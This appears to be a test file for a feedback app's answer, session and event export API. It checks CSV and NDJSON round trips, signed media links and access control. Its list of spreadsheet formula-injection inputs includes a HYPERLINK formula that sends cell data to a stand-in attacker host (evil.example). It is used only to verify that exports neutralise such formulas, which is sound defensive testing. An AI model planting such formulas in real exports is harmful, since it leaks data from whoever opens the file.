import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  ANSWER_EXPORT_COLUMNS,
  type AnswerItem,
  type AnswerList,
  AnswerExportRow,
  EVENT_EXPORT_COLUMNS,
  ExportRecordCounter,
  type SessionList,
  SESSION_EXPORT_COLUMNS,
  SessionExportRow,
  uuidv7,
} from '@reelback/shared';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { clipEvent } from '../clips/clip-events.js';
import type { Clock } from '../ports/clock.js';
import { eventsFor } from '../test-support/fixtures.js';
import type { ExportStore } from '../ports/export-store.js';
import { ExportsService } from './exports.service.js';
import { MediaLinks } from './media-links.js';
import { ownerSessions } from '../test-support/owner-sessions.js';
import { storageFactories } from '../test-support/storages.js';
import { uniqueFlowId, useTestApp } from '../test-support/test-app.js';

/** start → one step per answer kind; `rate` leads on to `say`, so a path can hold a score. */
const exportFlow = {
  name: 'Export test flow',
  steps: [
    {
      id: 'start',
      prompt: { title: 'Pick one' },
      answer: { type: 'choice', options: ['say', 'record', 'rate', 'nps', 'contact', 'optional-contact'].map((id) => ({ id, label: id, next: id })) },
    },
    { id: 'say', prompt: { title: 'Tell us' }, answer: { type: 'open', kinds: ['text'] }, next: 'end' },
    { id: 'record', prompt: { title: 'Show us' }, answer: { type: 'open', kinds: ['video'] }, next: 'end' },
    { id: 'rate', prompt: { title: 'Rate us' }, answer: { type: 'rating', scale: 5 }, next: 'say' },
    { id: 'nps', prompt: { title: 'Recommend us?' }, answer: { type: 'nps' }, next: 'end' },
    {
      id: 'contact',
      prompt: { title: 'Stay in touch' },
      answer: { type: 'contact', fields: [{ name: 'email', label: 'E-mail', required: true }, { name: 'name', label: 'Name' }], consentText: 'You may contact me.' },
      next: 'end',
    },
    { id: 'optional-contact', prompt: { title: 'Maybe' }, answer: { type: 'contact', fields: [{ name: 'email', label: 'E-mail' }] }, next: 'end' },
    { id: 'end', prompt: { title: 'Thanks' }, answer: { type: 'end' } },
  ],
};

/** What spreadsheets would run as formulas, typed by viewers. */
const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2+3', '@SUM(A1:A9)', '\tTab first', '\rCR first'];
/** The CSV's rule, restated independently: such text cells get a leading apostrophe. */
const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** A clock the test can move forward (signed links expire); a millisecond more on each reading. */
function movableClock(start: number): Clock & { advance(ms: number): void } {
  let now = start;
  return { now: () => new Date(now++), advance: (ms) => void (now += ms) };
}

type CsvRecord = Record<string, string>;

describe.each(storageFactories)('exports on $name', (factory) => {
  const clock = movableClock(Date.parse('2026-03-01T10:00:00.000Z'));
  const t = useTestApp(factory, { clock });
  const s = ownerSessions(t);
  const flowId = uniqueFlowId('export');
  const ids: Record<string, string | undefined> = {};
  const sessions: string[] = [];
  let clipId = '';

  const owner = (method: string, path: string, body?: unknown) => t.request(method, path, { owner: true, ...(body !== undefined ? { body } : {}) });

  async function inbox(query = ''): Promise<AnswerItem[]> {
    const out: AnswerItem[] = [];
    let cursor: string | null = null;
    do {
      const res = await owner('GET', `/api/v1/answers?limit=2&flowId=${flowId}${query}${cursor ? `&cursor=${cursor}` : ''}`);
      expect(res.status, await res.clone().text()).toBe(200);
      const page = (await res.json()) as AnswerList;
      out.push(...page.answers);
      cursor = page.nextCursor;
    } while (cursor);
    return out;
  }

  async function exported(path: string, headers: Record<string, string> = { authorization: `Bearer test-admin-key-0123456789` }) {
    const res = await t.request('GET', path, { headers });
    const body = await res.text();
    expect(res.status, body).toBe(200);
    return { res, body };
  }

  /** A session that walks `steps` (choice at start, then each answer) and answers; returns the answer event ids. */
  async function walk(choice: string, answers: { stepId: string; value: unknown; next: string }[], before?: (sessionId: string) => Promise<void>) {
    const sessionId = uuidv7();
    sessions.push(sessionId);
    const context = { embedMode: 'bubble', pageUrl: 'https://shop.example.com/p/1', referrer: 'https://news.example.com/', utm: { source: 'newsletter', campaign: '=spring' }, device: 'mobile' };
    const started = await t.request('POST', '/api/v1/sessions', { body: { flowId, sessionId, context } });
    expect(started.status, await started.clone().text()).toBe(201);
    await before?.(sessionId);
    const e = eventsFor({ sessionId, flowId, flowVersion: 1 });
    const events: unknown[] = [e.started(), e.viewed('start'), e.chose('start', choice, choice), e.viewed(choice), e.viewed(choice)];
    const out: string[] = [];
    for (const a of answers) {
      const submitted = { ...e.viewed(a.stepId), type: 'reelback.answer.submitted', data: { sessionId, flowId, flowVersion: 1, stepId: a.stepId, answer: a.value, nextStepId: a.next } };
      events.push(submitted);
      out.push(submitted.id);
      if (a.next !== 'end') events.push(e.viewed(a.next));
    }
    const res = await t.request('POST', '/api/v1/events', { body: { events } });
    expect(res.status, await res.clone().text()).toBe(202);
    return out;
  }

  it('seeds a flow with every kind of answer', async () => {
    expect((await owner('POST', '/api/v1/flows', { id: flowId, definition: exportFlow })).status).toBe(201);
    expect((await owner('POST', `/api/v1/flows/${flowId}/versions`)).status).toBe(201);
    [ids.rating, ids.afterRating] = await walk('rate', [
      { stepId: 'rate', value: { kind: 'rating', value: 4 }, next: 'say' },
      { stepId: 'say', value: { kind: 'text', text: 'Line one, with "quotes"\nline two; and a semicolon' }, next: 'end' },
    ]);
    for (const [i, text] of INJECTIONS.entries()) [ids[`inject${i}`]] = await walk('say', [{ stepId: 'say', value: { kind: 'text', text }, next: 'end' }]);
    [ids.nps] = await walk('nps', [{ stepId: 'nps', value: { kind: 'nps', value: 0 }, next: 'end' }]);
    [ids.consented] = await walk('contact', [{ stepId: 'contact', value: { kind: 'contact', fields: { email: 'yes@example.org', name: '@Ada' }, consent: true }, next: 'end' }]);
    [ids.withheld] = await walk('optional-contact', [{ stepId: 'optional-contact', value: { kind: 'contact', fields: { email: 'secret@example.org' }, consent: false }, next: 'end' }]);
    clipId = `clp_export${Date.now()}00000000000`;
    [ids.video] = await walk('record', [{ stepId: 'record', value: { kind: 'video', clipId }, next: 'end' }], async (sessionId) => {
      const key = `clips/${clipId}/video.mp4`;
      const local = join(t.media.dir, `${clipId}.mp4`);
      await writeFile(local, 'the bytes of a video');
      const { sizeBytes } = await t.media.media.blobs.putFile(key, local);
      const at = new Date().toISOString();
      const clip = {
        id: clipId,
        sessionId,
        stepId: 'record',
        kind: 'video' as const,
        status: 'ready' as const,
        reason: null,
        mimeType: 'video/webm',
        sizeBytes,
        durationSeconds: 12.5,
        width: 64,
        height: 64,
        container: 'mov,mp4,m4a,3gp,3g2,mj2',
        media: [{ rendition: 'video' as const, key, contentType: 'video/mp4', sizeBytes }],
        createdAt: at,
        updatedAt: at,
      };
      await t.storage.clips.insert(clip);
      await t.storage.transcripts.queue({ clipId, sessionId, jobId: null, at });
      const session = (await t.storage.sessions.get(sessionId))!;
      const text = 'what the engine heard';
      const result = { engine: 'whisper' as const, model: 'test', language: 'en', durationSeconds: 12.5, segments: [{ start: 0, end: 3, text }], text };
      const ready = clipEvent('reelback.transcript.ready', session, clip, new Date(), { ...result, processingSeconds: 0.1 });
      expect(await t.storage.transcripts.complete(clipId, { ...result, processingSeconds: 0.1 }, at, ready)).toBe(true);
    });
    // An owner corrects the transcript: the export carries the edited text.
    expect((await owner('PUT', `/api/v1/clips/${clipId}/transcript`, { segments: [{ start: 0, end: 3, text: '=what was really said' }] })).status).toBe(200);
    const patched = await owner('PATCH', `/api/v1/answers/${ids.afterRating}`, { status: 'reviewed', starred: true, tags: ['billing', 'mobile'], note: '-call them back' });
    expect(patched.status).toBe(200);
    expect((await owner('PATCH', `/api/v1/answers/${ids.video}`, { tags: ['video'] })).status).toBe(200);
    expect((await inbox()).length).toBe(INJECTIONS.length + 6);
  });

  it('round trip: the CSV parsed back with csv-parse equals the inbox API field by field, formulas neutralised', async () => {
    const items = await inbox();
    const { res, body } = await exported(`/api/v1/exports/answers?flowId=${flowId}&format=csv`);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="reelback-answers-${flowId}-\\d{8}T\\d{6}Z\\.csv"$`));
    expect(res.headers.get('x-total-count')).toBe(String(items.length));
    expect(new ExportRecordCounter('csv').push(body)).toBe(items.length);

    const header = parse(body, { to_line: 1 }) as string[][];
    expect(header[0]).toEqual(ANSWER_EXPORT_COLUMNS);
    const records = parse(body, { columns: true }) as CsvRecord[];
    expect(records.map((r) => r.id)).toEqual(items.map((i) => i.id)); // same order: newest first
    const cell = (v: string | number | null) => (v === null ? '' : typeof v === 'string' ? neutralised(v) : String(v));
    for (const [n, item] of items.entries()) {
      const r = records[n]!;
      const value = item.value as { kind: string; value?: number; fields?: Record<string, string>; consent?: boolean };
      const analysed = item.analysis?.state === 'analyzed' ? item.analysis : null;
      expect(r, item.id).toEqual({
        id: item.id,
        sessionId: item.sessionId,
        submittedAt: item.submittedAt,
        flowId: item.flowId,
        flowVersion: String(item.flowVersion),
        stepId: item.stepId,
        kind: item.kind,
        text: cell(item.text),
        value: value.kind === 'rating' || value.kind === 'nps' ? String(value.value) : '',
        contactConsent: value.kind === 'contact' ? String(value.consent) : '',
        contactName: cell(value.fields?.name ?? null),
        contactEmail: cell(value.fields?.email ?? null),
        contactPhone: '',
        contactCompany: '',
        clipId: item.clip?.id ?? '',
        clipStatus: item.clip?.status ?? '',
        durationSeconds: cell(item.clip?.durationSeconds ?? null),
        mediaUrl: item.clip ? `http://localhost/api/v1/clips/${item.clip.id}/media/video` : '',
        transcript: cell(item.transcriptSnippet),
        tags: item.tags.join(';'),
        status: item.status,
        starred: String(item.starred),
        note: cell(item.note),
        path: r.path!,
        sentiment: analysed?.sentiment ?? '',
        sentimentScore: cell(analysed?.sentimentScore ?? null),
        keyPhrases: cell(analysed?.keyPhrases.map((p) => p.text).join(';') ?? null),
        // Themes are not stored per answer yet (#17): an empty list, not a guess.
        themes: '',
      });
    }
    const byId = new Map(records.map((r) => [r.id, r]));
    // Every injection string comes out as inert text.
    for (const [i, text] of INJECTIONS.entries()) expect(byId.get(ids[`inject${i}`]!)!.text).toBe(`'${text}`);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(byId.get(ids.consented!)!.contactName).toBe("'@Ada");
    expect(byId.get(ids.video!)!.transcript).toBe("'=what was really said");
    expect(byId.get(ids.afterRating!)).toMatchObject({ text: 'Line one, with "quotes"\nline two; and a semicolon', note: "'-call them back", tags: 'billing;mobile' });
    // Scores stay numeric cells (an NPS of 0 is 0), contact details only with consent.
    expect(byId.get(ids.nps!)!.value).toBe('0');
    expect(byId.get(ids.rating!)!.value).toBe('4');
    expect(byId.get(ids.withheld!)).toMatchObject({ contactConsent: 'false', contactEmail: '' });
    expect(body).not.toContain('secret@example.org');
    // The path: the steps before the answer, a reload's repeated view counted once.
    expect(byId.get(ids.rating!)!.path).toBe('start:rate');
    expect(byId.get(ids.afterRating!)!.path).toBe('start:rate>rate:4');
    expect(byId.get(ids.video!)!.path).toBe('start:record');
  });

  it('NDJSON round trip: each line is an AnswerExportRow equal to the inbox item', async () => {
    const items = await inbox();
    const { res, body } = await exported(`/api/v1/exports/answers?flowId=${flowId}&format=ndjson`);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/\.ndjson"$/);
    expect(body.endsWith('\n')).toBe(true);
    const rows = body.trimEnd().split('\n').map((line) => AnswerExportRow.parse(JSON.parse(line)));
    expect(rows.length).toBe(items.length);
    expect(new ExportRecordCounter('ndjson').push(body)).toBe(items.length);
    for (const [n, item] of items.entries()) {
      const row = rows[n]!;
      expect(row).toMatchObject({ id: item.id, sessionId: item.sessionId, submittedAt: item.submittedAt, stepId: item.stepId, kind: item.kind, text: item.text, tags: item.tags, status: item.status, starred: item.starred, note: item.note });
      expect(row.transcript).toBe(item.transcriptSnippet);
    }
    const byId = new Map(rows.map((r) => [r.id, r]));
    // NDJSON is data, not a spreadsheet: text exactly as typed.
    expect(byId.get(ids.inject0!)!.text).toBe(INJECTIONS[0]);
    expect(byId.get(ids.nps!)).toMatchObject({ value: 0, kind: 'nps' });
    expect(byId.get(ids.consented!)).toMatchObject({ contactConsent: true, contactEmail: 'yes@example.org', contactName: '@Ada' });
    expect(byId.get(ids.video!)).toMatchObject({ clipId, clipStatus: 'ready', durationSeconds: 12.5, transcript: '=what was really said', path: 'start:record' });
  });

  it('takes the inbox filters, and refuses unknown or bad parameters naming them', async () => {
    const ndjsonIds = async (query: string) => {
      const { res, body } = await exported(`/api/v1/exports/answers?flowId=${flowId}&format=ndjson${query}`);
      const got = body.trimEnd().split('\n').filter(Boolean).map((line) => (JSON.parse(line) as { id: string }).id);
      expect(res.headers.get('x-total-count')).toBe(String(got.length));
      return got;
    };
    for (const query of ['&kind=rating', '&tag=billing', '&status=reviewed', '&starred=true', '&q=semicolon', '&stepId=say', '&from=2020-01-01&to=2020-01-02']) {
      expect(await ndjsonIds(query), query).toEqual((await inbox(query)).map((i) => i.id));
    }
    expect(await ndjsonIds('&kind=rating')).toEqual([ids.rating]);
    expect(await ndjsonIds('&from=2020-01-01&to=2020-01-02')).toEqual([]);
    for (const [query, field] of [
      ['?flow=x', ''],
      ['?format=xlsx', 'format'],
      ['?linkExpiresIn=3600', 'linkExpiresIn'],
      ['?links=signed&linkExpiresIn=5', 'linkExpiresIn'],
      ['?from=yesterday', 'from'],
    ] as const) {
      const res = await owner('GET', `/api/v1/exports/answers${query}`);
      const body = (await res.json()) as { error: { code: string; issues: { path: string[] }[] } };
      expect(res.status, query).toBe(400);
      if (field) expect(body.error.issues.map((i) => i.path[0]), query).toContain(field);
    }
    expect((await owner('GET', '/api/v1/exports/sessions?utm=x')).status).toBe(400);
  });

  it('member media links need a member; signed ones work without credentials until they expire, and not when tampered', async () => {
    const { body: member } = await exported(`/api/v1/exports/answers?flowId=${flowId}&format=ndjson&kind=video`);
    const memberUrl = new URL((JSON.parse(member.trim()) as { mediaUrl: string }).mediaUrl);
    expect(memberUrl.pathname).toBe(`/api/v1/clips/${clipId}/media/video`);
    expect((await t.request('GET', memberUrl.pathname)).status).toBe(401);
    const withKey = await owner('GET', memberUrl.pathname);
    expect(withKey.status).toBe(200);
    expect(await withKey.text()).toBe('the bytes of a video');

    const { body: signed } = await exported(`/api/v1/exports/answers?flowId=${flowId}&format=csv&kind=video&links=signed&linkExpiresIn=3600`);
    const [row] = parse(signed, { columns: true }) as CsvRecord[];
    const url = new URL(row!.mediaUrl!);
    expect(url.pathname).toBe(`/api/v1/media-links/${clipId}/video`);
    const expires = Number(url.searchParams.get('expires'));
    expect(expires * 1000 - clock.now().getTime()).toBeGreaterThan(3590_000);
    const link = `${url.pathname}${url.search}`;
    const open = await t.request('GET', link);
    expect(open.status).toBe(200);
    expect(await open.text()).toBe('the bytes of a video');
    const ranged = await t.request('GET', link, { headers: { range: 'bytes=4-8' } });
    expect(ranged.status).toBe(206);
    expect(await ranged.text()).toBe('bytes');

    const refused = async (path: string, code: string) => {
      const res = await t.request('GET', path);
      const body = (await res.json()) as { error: { code: string; message: string } };
      expect(res.status, path).toBe(403);
      expect(body.error.code).toBe(code);
      return body.error.message;
    };
    const sig = url.searchParams.get('signature')!;
    const flipped = `${sig[0] === 'A' ? 'B' : 'A'}${sig.slice(1)}`;
    await refused(`${url.pathname}?expires=${expires}&signature=${flipped}`, 'bad-signature');
    await refused(`${url.pathname}?expires=${expires + 3600}&signature=${sig}`, 'bad-signature');
    await refused(`${url.pathname.replace('/video', '/poster')}?expires=${expires}&signature=${sig}`, 'bad-signature');
    expect((await t.request('GET', `${url.pathname.replace('/video', '/wav')}${url.search}`)).status).toBe(400);

    clock.advance(3601_000);
    const message = await refused(link, 'link-expired');
    expect(message).toContain(new Date(expires * 1000).toISOString());
  });

  it('exports sessions and raw events, equal to the sessions API', async () => {
    const listRes = await owner('GET', `/api/v1/sessions?flowId=${flowId}&limit=100`);
    const list = (await listRes.json()) as SessionList;
    expect(list.sessions.length).toBe(sessions.length);

    const { res, body } = await exported(`/api/v1/exports/sessions?flowId=${flowId}&format=csv`);
    expect(res.headers.get('x-total-count')).toBe(String(sessions.length));
    const records = parse(body, { columns: true }) as CsvRecord[];
    expect(Object.keys(records[0]!)).toEqual(SESSION_EXPORT_COLUMNS);
    expect(records.map((r) => r.id)).toEqual(list.sessions.map((x) => x.id));
    const first = records.find((r) => r.id === sessions[0])!;
    expect(first).toMatchObject({ flowId, flowVersion: '1', embedMode: 'bubble', pageUrl: 'https://shop.example.com/p/1', utmSource: 'newsletter', utmCampaign: "'=spring", device: 'mobile', lastStepId: 'say', answers: '2', completedAt: '' });

    const { body: ndjson } = await exported(`/api/v1/exports/sessions?flowId=${flowId}&format=ndjson`);
    const rows = ndjson.trimEnd().split('\n').map((line) => SessionExportRow.parse(JSON.parse(line)));
    for (const session of list.sessions) {
      const row = rows.find((r) => r.id === session.id)!;
      expect(row).toMatchObject({ startedAt: session.startedAt, completedAt: session.completedAt, embedMode: session.context.embedMode, utmCampaign: '=spring' });
    }

    const stored = list.sessions.flatMap((x) => x.events);
    const { res: evRes, body: events } = await exported(`/api/v1/exports/events?flowId=${flowId}&format=ndjson`);
    expect(evRes.headers.get('x-total-count')).toBe(String(stored.length));
    const lines = events.trimEnd().split('\n').map((line) => JSON.parse(line) as { id: string });
    // Each line is the CloudEvent as stored; in the order accepted.
    expect(new Set(lines.map((l) => l.id))).toEqual(new Set(stored.map((x) => x.event.id)));
    for (const line of lines) expect(line).toEqual(stored.find((x) => x.event.id === line.id)!.event);
    for (const session of list.sessions) {
      const mine = lines.filter((l) => session.events.some((x) => x.event.id === l.id)).map((l) => l.id);
      expect(mine).toEqual(session.events.map((x) => x.event.id));
    }
    const { body: eventsCsv } = await exported(`/api/v1/exports/events?flowId=${flowId}&format=csv`);
    const eventRecords = parse(eventsCsv, { columns: true }) as CsvRecord[];
    expect(Object.keys(eventRecords[0]!)).toEqual(EVENT_EXPORT_COLUMNS);
    for (const r of eventRecords) {
      const original = stored.find((x) => x.event.id === r.id)!;
      // (PostgreSQL's jsonb keeps keys in its own order: compare the data as JSON.)
      expect({ ...r, data: JSON.parse(r.data!) }).toEqual({ id: original.event.id, type: original.event.type, time: original.event.time, receivedAt: original.receivedAt, sessionId: (original.event.data as { sessionId: string }).sessionId, data: original.event.data });
    }
    // Read in batches of 2 and 3 events (each read one batch ahead of the writer), the same text as in big batches;
    // on PostgreSQL the route's CSV came from COPY, and these batches are written by our CSV writer.
    const batched: ExportStore = Object.create(t.storage.exports, { eventCsvRows: { value: undefined } });
    for (const batchSize of [2, 3]) {
      const service = new ExportsService({ answers: t.storage.answers, analyses: t.storage.answerAnalyses, flows: t.storage.flows, clips: t.storage.clips, store: batched, links: new MediaLinks(new Uint8Array(32)), clock, batchSize });
      for (const [format, body] of [['csv', eventsCsv], ['ndjson', events]] as const) {
        let text = '';
        for await (const chunk of (await service.events({ workspaceId: null }, { flowId, format })).chunks) text += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
        expect(text, `${format} in batches of ${batchSize}`).toBe(body);
      }
    }
    // Nothing received in the future.
    const { body: none } = await exported(`/api/v1/exports/events?flowId=${flowId}&format=ndjson&from=2100-01-01`);
    expect(none).toBe('');
  });

  it('lets a manager export, and answers 404 for another workspace’s flow', async () => {
    const ada = await s.bootstrap('ada@example.org');
    const manager = await s.join(ada, 'mo@example.org', 'manager');
    const res = await s.as(manager, 'GET', `/api/v1/exports/answers?flowId=${flowId}&format=ndjson`);
    expect(res.status, await res.clone().text()).toBe(200);
    expect((await res.text()).trimEnd().split('\n').length).toBe(INJECTIONS.length + 6);
    expect((await t.request('GET', `/api/v1/exports/answers?flowId=${flowId}`)).status).toBe(401);
    const other = await s.newWorkspace(ada, 'ada@example.org', 'Other');
    for (const what of ['answers', 'sessions', 'events']) {
      const res = await s.as(other, 'GET', `/api/v1/exports/${what}?flowId=${flowId}`);
      expect(res.status, what).toBe(404);
      const all = await s.as(other, 'GET', `/api/v1/exports/${what}?format=ndjson`);
      expect(all.status).toBe(200);
      expect(await all.text()).toBe('');
    }
  });
});
